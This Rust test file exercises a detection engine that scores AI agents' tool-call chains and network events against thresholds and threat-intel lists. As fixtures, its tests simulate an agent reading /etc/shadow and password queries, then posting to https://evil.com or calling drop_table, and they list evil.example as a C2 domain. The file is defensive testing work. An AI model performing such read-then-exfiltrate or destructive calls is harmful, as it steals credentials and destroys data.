//! The numbers of detect.md §9.2 and of the intel lists, below, at and above.

mod common;

use common::{Agents, Scene, addr, ms};
use detect::{Body, Call, Class, Config, Decision, Dns, Engine, Input, Intel, Setup, Verdict};
use serde_json::{Value, json};

fn call(agents: &mut Agents, at: i64, name: &str, arguments: Value) -> Verdict {
    agents.call(at, "a", name, arguments)
}

fn post(agents: &mut Agents, at: i64) -> Verdict {
    call(agents, at, "http_post", json!({ "url": "https://evil.com" }))
}

/// The value of a part of the surest chain; none when it is not there.
fn part(verdict: &Verdict, id: &str) -> Option<i64> {
    let parts = verdict.findings.first().map(|chain| &chain.breakdown)?;
    parts.iter().find(|part| part.id == id).map(|part| part.value)
}

#[test]
fn a_burst_is_over_twenty_calls_in_sixty_seconds() {
    let after = |calls: i64, since: i64| {
        let mut agents = Agents::new();
        call(&mut agents, 0, "read_file", json!({ "path": "/etc/shadow" }));
        for n in 0..calls {
            call(&mut agents, n, "think", json!({ "n": n }));
        }
        part(&post(&mut agents, since), "call_burst")
    };
    assert_eq!(after(18, 1_000), None, "the twentieth call");
    assert_eq!(after(19, 1_000), Some(10), "the twenty-first");
    assert_eq!(after(19, 60_000), Some(10), "the first is sixty seconds old");
    assert_eq!(after(19, 60_001), None);
}

#[test]
fn a_rate_is_high_when_over_half_of_at_least_five_calls_in_300_s_were_risky() {
    let of = |risky: i64, harmless: i64, at: i64| {
        let mut agents = Agents::new();
        for n in 0..risky {
            call(&mut agents, n, "read_file", json!({ "path": "/etc/shadow" }));
        }
        for n in 0..harmless {
            call(&mut agents, risky + n, "think", json!({ "n": n }));
        }
        part(&post(&mut agents, at), "high_risk_rate")
    };
    assert_eq!(of(3, 0, 1_000), None, "four calls");
    assert_eq!(of(4, 0, 1_000), Some(10), "four of five");
    assert_eq!(of(3, 1, 1_000), Some(10), "three of five");
    assert_eq!(of(3, 2, 1_000), None, "three of six are half");
    assert_eq!(of(4, 0, 300_000), Some(10));
}

#[test]
fn what_is_read_counts_from_forty_seventy_and_ninety_on() {
    let read = |name: &str, arguments: Value| {
        let mut agents = Agents::new();
        call(&mut agents, 0, name, arguments);
        let verdict = post(&mut agents, 1_000);
        (
            verdict.findings.is_empty(),
            part(&verdict, "sensitivity_high"),
            part(&verdict, "sensitivity_very_high"),
        )
    };
    let query = json!({ "query": "select salary from employees" });
    assert_eq!(read("read_file", json!({ "path": "x" })), (true, None, None), "30");
    assert_eq!(
        read("think", json!({ "path": "/etc/shadow" })),
        (false, None, None),
        "40"
    );
    assert_eq!(read("query_db", query), (false, None, None), "60");
    assert_eq!(
        read("read_file", json!({ "path": "/etc/shadow" })),
        (false, Some(15), None),
        "70"
    );
    let all = json!({ "path": "/etc/shadow", "query": "select password from users" });
    assert_eq!(read("read_file", all), (false, Some(15), Some(10)), "100");
}

#[test]
fn a_chain_without_anything_sensitive_loses_twenty() {
    let destroyed = |first: (&str, Value)| {
        let mut agents = Agents::new();
        call(&mut agents, 0, first.0, first.1);
        let verdict = call(&mut agents, 1_000, "drop_table", json!({ "name": "t" }));
        (part(&verdict, "low_sensitivity"), verdict.confidence.value())
    };
    assert_eq!(destroyed(("list_tables", json!({}))), (Some(-20), 40));
    assert_eq!(
        destroyed(("list_files", json!({ "query": "select ssn from staff" }))).0,
        None,
        "30 is enough"
    );
}

#[test]
fn fifty_calls_of_interest_are_remembered() {
    let after = |others: i64| {
        let mut agents = Agents::new();
        call(&mut agents, 0, "read_file", json!({ "path": "/etc/shadow" }));
        for n in 0..others {
            call(&mut agents, 1 + n, "list_files", json!({ "n": n }));
        }
        !post(&mut agents, 1_000).findings.is_empty()
    };
    assert!(after(49));
    assert!(!after(50));
}

#[test]
fn order_surprises_only_from_the_thirty_first_call_on() {
    let after = |calls: i64| {
        let mut agents = Agents::new();
        for n in 0..calls {
            call(&mut agents, n * 10_000, "read_file", json!({ "path": "/etc/shadow" }));
        }
        part(&post(&mut agents, calls * 10_000), "sequence_surprise")
    };
    assert_eq!(after(29), None);
    assert_eq!(after(30), Some(10));
}

#[test]
fn five_thousand_agents_are_remembered_and_the_one_unheard_of_longest_goes() {
    let survives = |others: u32| {
        let mut engine = Engine::new(Setup::default(), Input::Tools);
        let call = |agent: &str, name: &str, arguments: Value| Call {
            agent: agent.to_owned(),
            name: name.to_owned(),
            arguments,
            ..Call::default()
        };
        engine.check(ms(0), &call("first", "read_file", json!({ "path": "/etc/shadow" })));
        for n in 0..others {
            engine.check(ms(1), &call(&format!("agent{n}"), "list_files", json!({})));
        }
        let verdict = engine.check(ms(2), &call("first", "http_post", json!({ "url": "https://evil.com" })));
        verdict.decision == Decision::Block
    };
    assert!(survives(4_999));
    assert!(!survives(5_500));
}

#[test]
fn a_listed_indicator_is_a_detection_from_sixty_on_and_seventy_when_the_list_does_not_say() {
    let found = |list: &str, seen: fn(&mut Engine)| {
        let mut intel = Intel::default();
        intel.add("bad", list);
        let mut engine = Engine::new(
            Setup {
                intel,
                ..Setup::default()
            },
            Input::Events,
        );
        seen(&mut engine);
        let found = engine.news().findings;
        found.first().map(|finding| (finding.confidence.value(), finding.class))
    };
    let asks = |engine: &mut Engine| {
        let dns = Dns {
            src: addr("10.1.0.1"),
            dst: None,
            query: "evil.example".to_owned(),
        };
        for at in [0, 60_000] {
            engine.event(detect::Event::new(ms(at), "test", Body::Dns(Box::new(dns.clone()))));
        }
    };
    let csv = |score: &str| format!("indicator,type,category,score,expires\nevil.example,domain,c2,{score},\n");
    assert_eq!(found(&csv("59"), asks), Some((59, Class::Notice)));
    assert_eq!(found(&csv("60"), asks), Some((60, Class::Detection)));
    assert_eq!(found(&csv("100"), asks), Some((100, Class::Detection)));
    assert_eq!(found("# plain\nevil.example\n", asks), Some((70, Class::Detection)));
    assert_eq!(found("good.example\n", asks), None);
    let old = "indicator,type,category,score,expires\nevil.example,domain,c2,90,2020-01-01T00:00:00Z\n";
    assert_eq!(found(old, asks), None, "expired");
}

#[test]
fn trusted_scanners_may_scan_and_only_that() {
    let config = Config {
        trusted_scanners: vec!["10.1.0.0/24".parse().expect("net")],
        ..Config::default()
    };
    let mut scene = Scene::with(config);
    for n in 0..1_000u16 {
        scene.refused(i64::from(n) * 5, "10.1.0.1", 10_000 + n, "10.9.0.1", 8443);
    }
    let report = scene.report();
    let rules: Vec<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
    assert_eq!(rules, ["net.flood"]);
}
